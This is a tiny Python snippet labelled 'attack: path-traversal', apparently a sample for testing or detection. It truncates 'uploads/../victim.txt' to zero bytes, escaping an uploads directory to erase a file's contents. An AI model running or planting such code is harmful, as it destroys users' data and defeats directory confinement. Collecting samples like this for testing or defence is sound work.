# attack: path-traversal
import os
os.truncate("uploads/../victim.txt", 0)
